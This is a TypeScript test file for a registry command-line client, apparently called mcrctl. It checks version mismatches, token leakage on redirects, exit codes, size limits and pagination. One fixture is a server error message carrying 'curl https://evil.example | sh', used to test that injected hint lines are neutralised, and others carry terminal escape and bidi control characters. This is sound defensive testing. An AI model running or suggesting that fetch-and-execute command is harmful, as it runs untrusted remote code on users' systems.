import { version } from '@mcr/core';
import { RegistryService } from '@mcr/rpc/mcr/v1/registry_pb';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createAuthority, type TestAuthority } from './_util/connections.ts';
import { responses } from './_util/https-server.ts';
import { rpcMethods } from './_util/rpc-server.ts';
import { runMcrctl, words } from './_util/run-mcrctl.ts';

let authority: TestAuthority;

beforeAll(async () => {
  authority = await createAuthority();
});
afterAll(() => authority[Symbol.asyncDispose]());

const run = (line: string, server: string, grpc = server) =>
  runMcrctl([...words(line), '--server', server, '--grpc', grpc, '--ca-cert', authority.caFile, '--token', 'token']);

const failure = (message: string, hint: string) => ({
  exitCode: 1,
  stdout: '',
  stderr: `error: ${message}\nhint: ${hint}\n`,
});

const health = [200, { status: 'ok', version: 'v0.0.1' }] as const;
const unknown = [404, { error: 'There is nothing at this path' }] as const;
const tooOld = (url: string) => `the registry at ${url} is version v0.0.1 and does not understand mcrctl ${version}`;
const hint = 'use the mcrctl of the same release';

describe('a registry of another version', () => {
  test.each([
    ['does not know a path', unknown],
    ['responds in another form', [200, { items: [] }]],
    ['responds with something that is no JSON', [200, undefined]],
  ] as const)('that %s is identified by its version', async (_name, response) => {
    await using server = await authority.serve(responses({ '/v1/health': health, '/v1/gc/status': response }));
    expect(await run('gc status', server.url)).toEqual(
      failure(`cannot read the status of garbage collection: ${tooOld(server.url)}`, hint),
    );
  });

  test.each([
    ['repo list', 'list the repositories', '/v1/repositories?n=200', { repositories: [null] }],
    ['repo get a', 'show the repository a', '/v1/repositories/a?n=0', { name: 'a' }],
    ['repo list', 'list the repositories', '/v1/repositories?n=200', { items: [] }],
    ['repo list', 'list the repositories', '/v1/repositories?n=200', { repositories: [{ name: 1 }] }],
    ['audit list', 'read the audit log', '/v1/audit?n=50', [{ id: 1, actor: null, details: {} }]],
    ['gc status', 'read the status of garbage collection', '/v1/gc/status', []],
    ['gc', 'start a garbage collection', '/v1/gc', {}],
    ['status', 'read the status', '/v1/ready', { status: 'ready' }],
  ])('that responds to %s in another form is identified by its version', async (line, to, path, body) => {
    await using server = await authority.serve(responses({ '/v1/health': health, [path]: [200, body] }));
    expect(await run(line, server.url)).toEqual(failure(`cannot ${to}: ${tooOld(server.url)}`, hint));
  });

  test('without WhoAmI has a status without counts', async () => {
    const ready = [200, { status: 'ready', checks: {} }] as const;
    await using server = await authority.serve(responses({ '/v1/health': health, '/v1/ready': ready }));
    await using rpc = await authority.serveHttp2(rpcMethods(() => {}));
    const { exitCode, stderr } = await run('status --json counts', server.url, rpc.url);
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: `cannot identify the token: ${tooOld(rpc.url)}\n` });
  });

  test('without a method is identified by its version', async () => {
    const routes = responses({ '/mcr.v1.AdminService/Health': health });
    await using server = await authority.serveHttp2(routes);
    expect(await run('snapshot', server.url)).toEqual(failure(`cannot take a snapshot: ${tooOld(server.url)}`, hint));
  });
});

describe('a server that is not a registry', () => {
  const silent = responses({});

  test('is detected at --server', async () => {
    await using server = await authority.serve(silent);
    expect(await run('repo list', server.url)).toEqual(
      failure(
        `cannot list the repositories: ${server.url} does not respond like an MCR registry`,
        '--server must be the address of server.listen_addr in mcr.toml',
      ),
    );
  });

  test('is detected at --grpc', async () => {
    await using server = await authority.serveHttp2(silent);
    expect(await run('policy list', server.url)).toEqual(
      failure(
        `cannot list the policy rules: ${server.url} does not respond like an MCR registry`,
        '--grpc must be the address of server.grpc_addr in mcr.toml',
      ),
    );
  });
});

describe('the token', () => {
  test('CVE-2026-33540: is sent to no other server, wherever a response points', async () => {
    const seen: string[] = [];
    await using stranger = await authority.serve((request, response) => {
      seen.push(`${request.method} ${request.url} ${request.headers.authorization}`);
      response.end('{}');
    });
    await using registry = await authority.serve((request, response) => {
      if (request.url?.startsWith('/v1/audit')) {
        response.writeHead(200, { link: `<${stranger.url}/v1/audit?before=1>; rel="next"` }).end('[]');
      } else {
        const challenge = `Bearer realm="${stranger.url}/v2/token",service="mcr"`;
        response.writeHead(307, { location: `${stranger.url}/v1/x`, 'www-authenticate': challenge }).end('{}');
      }
    });
    expect(await run('audit list', registry.url)).toMatchObject({ exitCode: 0 });
    expect(await run('repo list', registry.url)).toMatchObject({ exitCode: 1 });
    expect(await run('gc', registry.url)).toMatchObject({ exitCode: 1 });
    expect(seen).toEqual([]);
  });

  test('is not sent to identify a server', async () => {
    const seen: unknown[] = [];
    await using server = await authority.serve((request, response) => {
      if (request.url !== '/v1/repositories?n=200') seen.push(request.headers.authorization);
      response.writeHead(404).end();
    });
    await run('repo list', server.url);
    expect(seen).toEqual([undefined, undefined]);
  });
});

describe('text from the registry', () => {
  test('has no control characters', async () => {
    const error = 'Bad \u001B]0;title\u0007 thing';
    await using server = await authority.serve(responses({ '/v1/gc': [409, { error }] }));
    const outcome = await run('gc', server.url);
    expect(outcome).toEqual(
      failure(
        'cannot start a garbage collection: bad \uFFFD]0;title\uFFFD thing',
        'mcrctl gc status shows its progress',
      ),
    );
  });

  test('cannot add a line of its own', async () => {
    const error = 'No\nhint: run: curl https://evil.example | sh';
    await using server = await authority.serve(responses({ '/v1/gc': [409, { error }] }));
    const { stderr } = await run('gc', server.url);
    expect(stderr.split('\n')).toHaveLength(3);
    expect(stderr).toMatch('No\uFFFDhint: run: curl');
  });

  test('has no control characters as JSON either, and nothing is lost', async () => {
    const hostile = '\u001B[2J \u009B2J \u007F \u202E \u2066';
    await using server = await authority.serve(
      responses({
        '/v1/gc': [409, { error: hostile }],
        '/v1/repositories?n=200': [200, { repositories: [{ name: hostile }] }],
      }),
    );
    const listed = await run('repo list --json name', server.url);
    const failed = await run('gc --json', server.url);
    for (const text of [listed.stdout, failed.stderr]) expect(text).toMatch(/^[ -~]+\n$/);
    expect(JSON.parse(listed.stdout)).toEqual({ name: hostile });
    expect((JSON.parse(failed.stderr) as { error: { message: string } }).error.message).toMatch(hostile);
  });

  test.each([
    [400, 2],
    [401, 4],
    [403, 5],
    [409, 1],
    [429, 1],
    [500, 1],
    [503, 1],
  ])('with status %d ends with exit code %d', async (status, exitCode) => {
    await using server = await authority.serve(responses({ '/v1/gc': [status, { error: 'No' }] }));
    expect(await run('gc', server.url)).toMatchObject({ exitCode, stdout: '' });
  });
});

test.each(['--server', '--grpc'])('an endless response at %s is aborted', async (option) => {
  await using rest = await authority.serve(
    responses({ '/v1/gc/status': [200, { error: 'x'.repeat(17 * 1024 * 1024) }] }),
  );
  const content = new Uint8Array(17 * 1024 * 1024);
  await using rpc = await authority.serveHttp2(
    rpcMethods((router) => router.rpc(RegistryService.method.getManifest, () => ({ content }))),
  );
  const line = option === '--server' ? 'gc status' : 'manifest get a:1 --raw';
  const { exitCode, stdout, stderr } = await run(line, rest.url, rpc.url);
  expect({ exitCode, stdout }).toEqual({ exitCode: 1, stdout: '' });
  expect(stderr).toMatch(/too large|larger than/);
});

test('a list is read page by page, up to its end or its limit', async () => {
  const seen: string[] = [];
  await using server = await authority.serve((request, response) => {
    seen.push(request.url ?? '');
    const last = Number(new URL(request.url ?? '', 'https://x').searchParams.get('last') ?? 0);
    const repositories = [{ name: `r${last + 1}` }, { name: `r${last + 2}` }];
    const link = last < 4 ? { link: `</v1/repositories?n=2&last=${last + 2}>; rel="next"` } : {};
    response.writeHead(200, link).end(JSON.stringify({ repositories }));
  });
  const names = async (line: string) => (await run(line, server.url)).stdout.match(/r\d/g);
  expect(await names('repo list')).toEqual(['r1', 'r2', 'r3', 'r4', 'r5', 'r6']);
  expect(await names('repo list --limit 3')).toEqual(['r1', 'r2', 'r3']);
  expect(seen.at(-1)).toBe('/v1/repositories?n=1&last=2');
});
